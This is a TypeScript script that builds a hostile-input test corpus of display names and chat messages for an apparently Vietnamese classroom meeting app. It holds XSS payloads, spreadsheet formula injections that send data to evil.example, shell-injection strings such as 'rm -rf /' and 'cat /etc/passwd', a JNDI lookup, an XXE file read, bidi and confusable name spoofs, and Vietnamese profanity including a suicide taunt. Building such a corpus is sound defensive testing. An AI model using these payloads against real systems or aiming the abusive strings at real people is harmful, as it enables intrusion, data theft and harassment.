/**
 * Writes hostile.json: display names and chat messages as attackers write them, for the end-to-end
 * test that drives them through every client (test/e2e/hostile-corpus.test.ts) and for anyone who
 * wants to try them by hand. Run `npx tsx test/corpus/hostile/build.ts` after editing the lists.
 *
 * An entry's `text` is repeated `times` times when given (100 KB strings stay small in the file).
 */
import { writeFileSync } from 'node:fs';
import path from 'node:path';

export interface HostileEntry {
  kind: 'name' | 'message';
  category: string;
  text: string;
  times?: number;
}

const RLO = '\u202e';
const PDF = '\u202c';
const ZW = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u3164'];
const BIDI = ['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c'];
const JS_WORDS = [
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', '__lookupSetter__',
  'isPrototypeOf', 'propertyIsEnumerable', 'toLocaleString', 'then', 'length', 'Object', 'null', 'undefined', 'NaN', 'Infinity',
  '[object Object]', 'true', 'false', '0', '-1', '1e309', '__dirname', 'globalThis', 'window', 'document.cookie', 'eval',
];
const MARKUP = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(document.domain)>", '<iframe srcdoc="<script>alert(1)</script>">', '<a href="javascript:alert(1)">bấm</a>',
  '<style>*{display:none}</style>', '<b onmouseover=alert(1)>Khách</b>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>', '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<video><source onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '`${alert(1)}`', '<!--', '-->', ']]>', '<![CDATA[x]]>', '&lt;script&gt;',
  '&#60;script&#62;alert(1)', '<template><script>alert(1)</script></template>', '<object data="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="javascript:alert(1)//">', '<form action=javascript:alert(1)><button>x',
  '<x contenteditable onblur=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];
const LINKS = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'https://evil.example/\u202egpj.exe',
  'https://zoom.us/j/98765432101?pwd=abc', 'https://meet.google.com/abc-defg-hij', 'http://xn--80ak6aa92e.com', 'https://bit.ly/3abcXYZ',
];
const FORMULAS = [
  '=1+1', '=HYPERLINK("https://evil.example","bấm vào")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1', '\r=1+1', '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")', '=DDE("cmd";"/C calc";"!A0")', "'=1+1", '＝1+1', '=cmd|"/c notepad"!A1',
];
const UI_TEXT = [
  'Giáo viên', 'Cô giáo', 'Thầy giáo', '(Chủ trì)', 'Chủ trì', '(Host)', 'Host', '(Host, me)', '(Chủ trì, tôi)', 'Organizer', 'Người tổ chức',
  '(You)', '(Bạn)', 'Bạn', 'You', '(Khách)', '(Guest)', '(External)', '(Unverified)', 'Admit', 'Cho vào', 'Remove', 'Xóa', 'Everyone', 'Mọi người',
  'Meeting host', 'Zoom', 'Google Meet', 'Microsoft Teams', 'Waiting Room', 'Phòng chờ', 'Presentation', 'Bản trình bày', 'is presenting',
  'đang trình bày', 'Người tham gia (30)', 'Participants (30)', 'Admit all', 'Mute all', 'Leave', 'Rời khỏi', 'End meeting for all',
];
const STUDENTS = ['Nguyễn Thị Lan', 'Trần Minh Anh', 'Lê Hoàng Bảo', 'Phạm Thu Hà', 'Vũ Thị Giang', 'Đặng Văn Hải', 'Bùi Thị Hoa', 'Đỗ Văn Khánh'];
const CONFUSABLE = [
  'Nguyễn Thị Lаn', 'Trаn Minh Anh', 'Lê Hoàng Bảо', 'Рhạm Thu Hà', 'Ngυyễn Văn An', 'Nguyễn Văn Αn', 'Ｎｇｕｙｅｎ Ｔｈｉ Ｌａｎ',
  '𝐍𝐠𝐮𝐲𝐞𝐧 𝐓𝐡𝐢 𝐋𝐚𝐧', '𝓝𝓰𝓾𝔂𝓮𝓷 𝓣𝓱𝓲 𝓛𝓪𝓷', 'Ⓝⓖⓤⓨⓔⓝ', 'Nguyễn Thị Ian', 'Nguyen Thi Lan', 'NGUYỄN THỊ LAN', 'nguyễn thị lan',
  'Nguyễn  Thị   Lan', ' Nguyễn Thị Lan ', 'Lan Nguyễn Thị', 'Nguyễn Thị Lan (Khách)', 'Nguyễn Thị Lan [C]', '10A1 - Nguyễn Thị Lan',
  'Nguyê\u0303n Thi\u0323 Lan', 'Trần Minh Anh\u200b', 'Trần\u00a0Minh\u00a0Anh', 'Trần\u3000Minh\u3000Anh', 'Tran Minh Ahn', 'Trần Mình Anh',
];
const CONTROL = ['\u0000', '\u0001', '\u0007', '\u0008', '\u001b[31m', '\u007f', '\u0085', '\u2028', '\u2029', '\n', '\r\n', '\t', '\u000b', '\u000c'];
const UNICODE = [
  '\ud800', '\udfff', 'a\ud800b', '\udfff\ud800', '\ufffd', '\uffff', '\ufffe', '\ue000\uf8ff', '\u{e0041}\u{e0042}', '\u{10ffff}', 'x\ufe0f\ufe0e',
  'مرحبا بالجميع', 'שלום כיתה', 'Привет класс', 'こんにちは', '你好同学', 'สวัสดี', '👨‍👩‍👧‍👦', '🏳️‍🌈', '🇻🇳🇺🇸', '👍🏽', '\u{1f600}'.repeat(3),
];
const OFFENSIVE = [
  'Địt Mẹ Cả Lớp', 'dit me ca lop', 'Thằng Ngu', 'đ.ị.t m.ẹ', 'd1t m3', 'Lồn', 'L0N', 'Fuck This Class', 'f.u.c.k', 'ĐMM', 'Cặc To',
  'con chó Bảo', 'óc chó', 'Sex Free', 'xxx', 'Zalo 0987654321', 'inbox anh nhé', 'Hitler', 'ISIS', 'tự tử đi',
];
const INJECTION = [
  "'; DROP TABLE students; --", '" OR 1=1 --', '../../../etc/passwd', '..\\..\\windows\\win.ini', '%s%s%s%n', '%00', '{0}{1}', '%n%n%n',
  '\n[INFO] teacher approved', '\r\nSet-Cookie: a=b', '$(reboot)', '`rm -rf /`', '| cat /etc/passwd', '; shutdown -h now', '${jndi:ldap://x/a}',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '{"__proto__":{"admin":true}}', 'a'.repeat(0) + '\\u0000',
];

function entries(): HostileEntry[] {
  const out: HostileEntry[] = [];
  const add = (kind: HostileEntry['kind'], category: string, text: string, times?: number) => out.push({ kind, category, text, ...(times ? { times } : {}) });
  const both = (category: string, text: string, times?: number) => {
    add('name', category, text, times);
    add('message', category, text, times);
  };
  for (const m of MARKUP) both('markup', m);
  for (const [i, m] of MARKUP.slice(0, 10).entries()) add('message', 'markup', `${STUDENTS[i % STUDENTS.length]} nói: ${m} địt mẹ`);
  for (const l of LINKS) both('link', l);
  for (const f of FORMULAS) both('formula', f);
  for (const w of JS_WORDS) {
    both('js-word', w);
    add('message', 'js-word', `cô ơi ${w} là gì ạ`);
  }
  add('message', 'js-word', 'constructor địt mẹ mày');
  for (const [i, b] of BIDI.entries()) {
    add('name', 'bidi', `${b}${STUDENTS[i % STUDENTS.length]}`);
    add('message', 'bidi', `${b}gnp.exe${PDF} mày ngu như chó`);
  }
  add('name', 'bidi', `${RLO}naL ihT nễyugN`);
  add('name', 'bidi', `Trần Minh${RLO} Anh`);
  for (const [i, z] of ZW.entries()) {
    add('name', 'zero-width', `${STUDENTS[i % STUDENTS.length]!.replace(' ', ` ${z}`)}`);
    add('message', 'zero-width', `đ${z}ịt m${z}ẹ`);
  }
  add('name', 'zero-width', `${ZW.join('')}Khách`);
  add('message', 'zero-width', `${ZW.join('')} chỉ có chữ vô hình ${ZW.join('')}`);
  for (const n of [5, 50, 500, 5000]) both('combining-flood', `Z${'\u0336\u0335\u0334\u0489'.repeat(n / 5)}algo ${n}`);
  both('combining-flood', `e${'\u0301'.repeat(10000)}`);
  for (const c of CONFUSABLE) add('name', 'confusable', c);
  for (const c of CONFUSABLE.slice(0, 12)) add('message', 'confusable', `${c} vào lớp rồi ạ`);
  for (const [i, c] of CONTROL.entries()) {
    add('name', 'control', `Khách${c}${i}`);
    add('message', 'control', `dòng một${c}dòng hai ${i}`);
  }
  for (const u of UNICODE) both('unicode', u);
  for (const u of UI_TEXT) add('name', 'client-ui-text', u);
  for (const u of UI_TEXT.slice(0, 20)) add('message', 'client-ui-text', `${u}: mọi người ra khỏi lớp đi`);
  for (const o of OFFENSIVE) both('offensive', o);
  for (const s of INJECTION) both('injection', s);
  // Lengths at and around the caps (names 256, chat 4,000 characters).
  for (const n of [255, 256, 257, 1000]) add('name', 'length', `${n}`.padEnd(n, 'ằ'));
  for (const n of [3999, 4000, 4001, 10000]) add('message', 'length', `${n}`.padEnd(n, 'ằ'));
  add('name', 'huge', 'Nguyễn Thị Lan ', 6700);
  add('name', 'huge', '<script>alert("huge")</script>', 3300);
  add('message', 'huge', 'địt mẹ ', 15000);
  add('message', 'huge', 'A', 100_000);
  add('message', 'huge', '\u202e\u200b', 50_000);
  add('message', 'huge', '=1+1,', 20_000);
  add('message', 'emoji-flood', '😀', 2000);
  add('message', 'emoji-flood', '👨‍👩‍👧‍👦', 500);
  add('name', 'emoji-flood', '🔥', 300);
  add('message', 'whitespace', '   ');
  add('message', 'whitespace', '\u00a0\u00a0\u3000');
  add('name', 'whitespace', '\u00a0Khách\u00a0');
  add('name', 'whitespace', 'Khách\t\tTab');
  return out;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const list = entries();
  const file = path.join(import.meta.dirname, 'hostile.json');
  writeFileSync(file, `[\n${list.map((e) => JSON.stringify(e)).join(',\n')}\n]\n`);
  const names = list.filter((e) => e.kind === 'name').length;
  console.log(`${list.length} entries (${names} names, ${list.length - names} messages) → hostile.json`);
}
